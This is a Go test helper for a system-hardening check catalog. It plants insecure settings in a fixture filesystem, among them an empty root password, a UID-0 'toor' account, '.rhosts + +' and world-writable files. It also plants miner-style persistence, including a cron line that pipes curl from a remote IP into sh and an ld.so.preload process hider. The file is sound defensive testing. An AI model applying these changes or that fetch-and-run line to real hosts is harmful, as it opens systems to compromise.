package catalog

import (
	"context"
	"os"
	"path"
	"path/filepath"
	"strconv"
	"strings"

	"github.com/hardenedcloud/terraform-provider-hardened/hardening/engine"
)

// setField sets a colon-file field of the entry named name.
func (b breaker) setField(file, name string, field int, value string) {
	b.editLines([]string{file}, func(l string) (string, bool) {
		f := strings.Split(l, ":")
		if len(f) <= field || f[0] != name {
			return "", false
		}
		f[field] = value
		return strings.Join(f, ":"), true
	})
}

// passwordUser returns an account with a usable password hash.
func (b breaker) passwordUser() string {
	for _, l := range strings.Split(b.read("/etc/shadow"), "\n") {
		if f := strings.Split(l, ":"); len(f) > 2 && usableHash(f[1]) {
			return f[0]
		}
	}
	b.t.Fatal("fixture has no account with a password")
	return ""
}

// breakLocal plants violations for the catalog's own check types
// (checks_*.go); breakCheck covers the primitives.
func (b breaker) breakLocal(ctx context.Context, c engine.Check) bool {
	b.t.Helper()
	switch c := c.(type) {
	case banner:
		b.write(c.Path, "Debian GNU/Linux \\r \\m\n", 0o644)
	case limitsCoreZero:
		_ = os.Remove(b.host(limitsDropIn))
		b.appendLine("/etc/security/limits.conf", "*  hard  core  unlimited")
	case apparmorNoneDisabled:
		if err := os.MkdirAll(b.host(apparmorDisable), 0o755); err != nil {
			b.t.Fatal(err)
		}
		_ = os.Symlink("../usr.sbin.zz-break", filepath.Join(b.root, apparmorDisable, "usr.sbin.zz-break"))
	case selinuxNotDisabled:
		b.setKV(selinuxConfig, "SELINUX", "disabled")
	case cryptoPolicy:
		if c.NotLegacy {
			b.write(cryptoConfig, "LEGACY\n", 0o644)
		} else {
			b.write(cryptoConfig, strings.ReplaceAll(b.read(cryptoConfig), ":"+c.Module, ""), 0o644)
		}
	case ufwRules:
		for _, r := range c.Want {
			b.editLines([]string{ufwFile(r.v6)}, func(l string) (string, bool) {
				return "\x00", strings.TrimSpace(l) == r.rule || strings.TrimSpace(l) == r.tuple
			})
		}
	case firewalldZone:
		b.write(publicZone, `<?xml version="1.0" encoding="utf-8"?>`+"\n<zone>\n  <short>Public</short>\n</zone>\n", 0o644)
	case shadowField:
		b.setField("/etc/shadow", b.passwordUser(), c.Field, badValue(c.Accept, c.Value, "99999", "-1"))
	case lastChangeInPast:
		b.setField("/etc/shadow", b.passwordUser(), 2, strconv.Itoa(int(testNow().Unix()/86400)+1000))
	case accountScan:
		b.plantAccount(c.Kind)
	case rootAccess:
		b.setField("/etc/shadow", "root", 1, "")
	case rootPath:
		b.appendLine("/root/.profile", "PATH=.:$PATH")
	case umaskLines:
		files := b.glob(c.Files)
		target := plantPath(c.Files[0])
		if len(files) > 0 {
			target = files[0]
		}
		b.appendLine(target, "umask 022")
	case systemNoLogin:
		b.setField("/etc/passwd", "daemon", 6, "/bin/bash")
	case nologinLocked:
		b.setField("/etc/shadow", "daemon", 1, "$6$planted$hash")
	case groupEmpty:
		if !strings.Contains(b.read("/etc/group"), "\n"+c.Name+":") && !strings.HasPrefix(b.read("/etc/group"), c.Name+":") {
			if !c.Create {
				return false
			}
			b.appendLine("/etc/group", c.Name+":x:990:alice")
		}
		b.setField("/etc/group", c.Name, 3, "alice")
	case tmoutConfigured:
		_ = os.Remove(b.host(tmoutProfile))
		b.write("/etc/profile.d/zz-break.sh", "TMOUT=0\nexport TMOUT\n", 0o644)
	case aidePeriodic:
		for _, p := range b.glob([]string{"/etc/cron.d/*aide*", "/etc/cron.daily/*aide*"}) {
			_ = os.Remove(b.host(p))
		}
	case singleLogShipper:
		for _, u := range []string{"rsyslog.service", "systemd-journal-upload.service"} {
			b.ensureUnit(u)
			_ = os.MkdirAll(filepath.Join(b.root, "etc/systemd/system/multi-user.target.wants"), 0o755)
			_ = os.Symlink("/usr/lib/systemd/system/"+u, filepath.Join(b.root, "etc/systemd/system/multi-user.target.wants", u))
		}
	case emptyPasswords:
		b.setField("/etc/shadow", b.passwordUser(), 1, "")
	case worldWritable:
		b.write("/etc/zz-break-ww", "planted\n", 0o666)
		if err := os.MkdirAll(b.host("/var/zz-break-dir"), 0o777); err != nil {
			b.t.Fatal(err)
		}
		_ = os.Chmod(b.host("/var/zz-break-dir"), 0o777)
	case unowned:
		b.write("/var/zz-break-unowned", "planted\n", 0o644)
		if err := os.Lchown(b.host("/var/zz-break-unowned"), 4242, 4242); err != nil {
			b.t.Fatal(err)
		}
	case homeDirs:
		_ = os.Chmod(b.host("/home/alice"), 0o777)
	case dotFiles:
		b.write("/home/alice/.rhosts", "+ +\n", 0o644)
		b.write("/home/alice/.bash_logout", "clear\n", 0o666)
	case logFiles:
		b.write("/var/log/zz-break.log", "planted\n", 0o666)
	case minerCheck:
		b.plantMiner(c.Kind)
	case pamConfSetting:
		// The violation the file-only check missed: a weaker argument on
		// the module's PAM line, which wins over the configuration files.
		bad := badValue(c.Accept, c.Value, "8", "60", "0")
		planted := false
		b.editLines(c.PAM, func(l string) (string, bool) {
			_, isLine := c.pamArg(l + " " + c.Key + "=x")
			planted = planted || isLine
			return l + " " + c.Key + "=" + bad, isLine
		})
		return planted
	default:
		b.t.Errorf("no breaker for check type %T (%s): add one to breakCheck (breakers_test.go) for a primitive or to breakLocal (breakers_local_test.go) for a catalog check type", c, c.Describe())
		return false
	}
	return true
}

func (b breaker) setKV(file, key, value string) {
	b.editLines([]string{file}, func(l string) (string, bool) {
		k, _, ok := strings.Cut(l, "=")
		return key + "=" + value, ok && strings.TrimSpace(k) == key
	})
}

func (b breaker) plantAccount(k scanKind) {
	switch k {
	case scanUID0:
		b.appendLine("/etc/passwd", "toor:x:0:0::/root:/bin/sh")
	case scanGID0:
		b.appendLine("/etc/passwd", "gzero:x:2000:0::/nonexistent:/usr/sbin/nologin")
	case scanGroupGID0:
		b.appendLine("/etc/group", "rootish:x:0:")
	case scanDupUID:
		b.appendLine("/etc/passwd", "dupuid:x:1001:1001::/nonexistent:/usr/sbin/nologin")
	case scanDupGID:
		b.appendLine("/etc/group", "dupgid:x:1001:")
	case scanDupUser:
		b.appendLine("/etc/passwd", "alice:x:2001:1001::/nonexistent:/usr/sbin/nologin")
	case scanDupGroup:
		b.appendLine("/etc/group", "alice:x:2002:")
	case scanGroupsExist:
		b.appendLine("/etc/passwd", "orphan:x:2003:4242::/nonexistent:/usr/sbin/nologin")
	case scanShadowed:
		b.setField("/etc/passwd", "alice", 1, "$6$planted$hash")
	}
}

func (b breaker) plantMiner(k minerKind) {
	switch k {
	case minerFiles:
		b.write("/var/tmp/.cache/kdevtmpfsi", "planted\n", 0o644)
	case minerPools:
		b.write("/etc/zz-break.json", `{"url": "stratum+tcp://pool.example:3333"}`+"\n", 0o644)
	case minerCron:
		b.write("/etc/cron.d/zz-break", "* * * * * root curl -fsSL http://198.51.100.7/x | sh\n", 0o644)
	case minerSystemd:
		b.write("/etc/systemd/system/zz-break.service", "[Service]\nExecStart=/tmp/.x/kworker -c /tmp/.x/c.json\n", 0o644)
	case minerTmpExec:
		b.write(path.Join("/tmp", "zz-break.sh"), "#!/bin/sh\n", 0o755)
	case minerPreload:
		b.write("/etc/ld.so.preload", "/usr/local/lib/libprocesshider.so\n", 0o644)
	}
}
